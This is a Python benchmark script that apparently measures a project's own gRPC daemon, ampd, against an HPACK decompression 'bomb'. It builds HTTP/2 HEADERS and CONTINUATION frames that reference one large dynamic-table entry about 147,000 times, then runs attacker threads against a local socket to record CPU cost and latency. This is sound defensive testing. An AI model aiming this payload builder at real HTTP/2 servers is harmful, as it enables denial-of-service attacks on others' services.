#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""hpack_bomb.py: the HPACK bomb of issue 33 item 4, measured.

A HEADERS block of 147,456 bytes (HEADERS + 8 CONTINUATION frames of
16 KiB, as many as nghttp2 lets one block span) that adds one 4,000-byte
field to the dynamic table and then refers to it once a byte: ~147,000
fields, ~593 MB decoded. Prints, for the ampd binary given:

  cpu_ms_per_block  ampd's CPU (user + system) for one such block, sent on
                    a fresh connection and followed by a PING whose ack (or
                    the connection's end) says it was all processed
  p50_ms / max_ms   a 16-byte Reverse call's latency on a fresh connection,
                    alone and then while two connections send such blocks
                    without pause (--io-threads 1: the same I/O loop)

Usage: bench/hpack_bomb.py BUILD/ampd [SECONDS]
"""
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "support"))
from h2_raw import PREFACE, frame, hpack_int, literal  # noqa: E402

FRAME = 16384
FRAMES = 9
# A second shape: a block just under ampd's 64 KiB header-list limit on
# the wire, which ampd must decode (its fields still pass the limit).
SMALL_BLOCK = 65000
ENTRY_VALUE = 4000
BLOCKS = 20   # per CPU figure: /proc counts in 10 ms ticks



def request_fields(path):
    return (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", path)
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def bomb(sid, size):
    """HEADERS + CONTINUATIONs of size bytes: a 4,000-byte entry into the
    table, then indexed references to it (index 62, the newest dynamic
    entry)."""
    head = request_fields(b"/amp.v1.Amp/Reverse")
    head += b"\x40" + bytes([5]) + b"x-big" + hpack_int(ENTRY_VALUE, 7) + b"b" * ENTRY_VALUE
    block = head + b"\xbe" * (size - len(head))
    out = b""
    for at in range(0, size, FRAME):
        ftype = 0x1 if at == 0 else 0x9
        flags = 0x4 if at + FRAME >= size else 0
        out += frame(ftype, flags, sid, block[at:at + FRAME])
    return out


def hello(sock):
    sock.sendall(PREFACE + frame(0x4, 0, 0, b""))


def read_frames(sock, want):
    """Reads frames until want(type, flags, sid) is true or the peer ends."""
    buf = b""
    while True:
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            t, f, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            buf = buf[9 + n:]
            if want(t, f, sid):
                return True
        try:
            d = sock.recv(65536)
        except OSError:
            return False
        if not d:
            return False
        buf += d


def call(path):
    """One 16-byte Reverse; returns its latency in ms."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    t0 = time.monotonic()
    s.connect(path)
    hello(s)
    msg = b"\x0a\x10" + b"0123456789abcdef"
    body = b"\x00" + struct.pack(">I", len(msg)) + msg
    s.sendall(frame(0x1, 0x4, 1, request_fields(b"/amp.v1.Amp/Reverse")) + frame(0x0, 0x1, 1, body))
    ok = read_frames(s, lambda t, f, sid: sid == 1 and (t == 0x3 or (t == 0x1 and f & 0x1)))
    ms = (time.monotonic() - t0) * 1000
    s.close()
    if not ok:
        raise RuntimeError("the probe call got no answer")
    return ms


def cpu_ms(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) * 1000 / os.sysconf("SC_CLK_TCK")


def one_block(path, size):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    s.connect(path)
    hello(s)
    try:
        s.sendall(bomb(1, size) + frame(0x6, 0, 0, b"\0" * 8))
    except OSError:
        pass   # closed before it all went
    read_frames(s, lambda t, f, sid: t == 0x6 and f & 0x1)
    s.close()


def attacker(path, stop, count, size):
    while not stop.is_set():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        hello(s)
        sid = 1
        try:
            while not stop.is_set():
                s.sendall(bomb(sid, size))
                count[0] += 1
                sid += 2
                s.setblocking(False)
                try:
                    while s.recv(65536):
                        pass
                except BlockingIOError:
                    pass
                s.setblocking(True)
        except OSError:
            pass   # the daemon hung up: connect again
        s.close()


def main():
    binary = sys.argv[1]
    seconds = float(sys.argv[2]) if len(sys.argv) > 2 else 5
    d = tempfile.mkdtemp(prefix="hpack-bomb-")
    path = os.path.join(d, "ampd.sock")
    proc = subprocess.Popen([binary, "--listen", "unix:" + path, "--io-threads", "1"],
                            stderr=subprocess.DEVNULL)
    try:
        while not os.path.exists(path):
            time.sleep(0.05)
        for _ in range(5):
            call(path)
        alone = sorted(call(path) for _ in range(20))
        print("alone: p50_ms %.1f max_ms %.1f" % (alone[10], alone[-1]))
        for size in (FRAME * FRAMES, SMALL_BLOCK):
            c0 = cpu_ms(proc.pid)
            for _ in range(BLOCKS):
                one_block(path, size)
            print("block %d bytes: cpu_ms_per_block %.2f" %
                  (size, (cpu_ms(proc.pid) - c0) / BLOCKS))
            stop, counts, threads = threading.Event(), [[0], [0]], []
            for i in range(2):
                t = threading.Thread(target=attacker, args=(path, stop, counts[i], size))
                t.start()
                threads.append(t)
            lat, t0 = [], time.monotonic()
            while time.monotonic() - t0 < seconds:
                lat.append(call(path))
            stop.set()
            for t in threads:
                t.join()
            lat.sort()
            print("  attacked: p50_ms %.1f max_ms %.1f calls %d blocks_sent %d" %
                  (lat[len(lat) // 2], lat[-1], len(lat), counts[0][0] + counts[1][0]))
    finally:
        proc.terminate()
        proc.wait()


if __name__ == "__main__":
    main()
